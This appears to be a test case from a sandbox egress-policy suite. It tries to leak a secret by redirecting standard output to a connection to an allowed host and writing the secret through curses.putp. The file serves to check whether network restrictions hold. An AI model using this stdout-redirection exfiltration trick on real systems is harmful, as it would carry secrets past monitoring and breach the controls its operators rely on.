# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: standard output is closed before dup2 makes it a connection to an allowed name, and
#   curses writes there
#   by stdio
# proof: word
# needs: resolver
import curses
import os

from attack import SECRET, at_allowed, attempt


def say(out):
    curses.setupterm("xterm", 2)
    kept = os.dup(1)
    os.close(1)
    try:
        os.dup2(out.fileno(), 1)
        curses.putp(SECRET.encode() * 1000)
    finally:
        os.dup2(kept, 1)


@attempt
def send():
    return at_allowed(say)
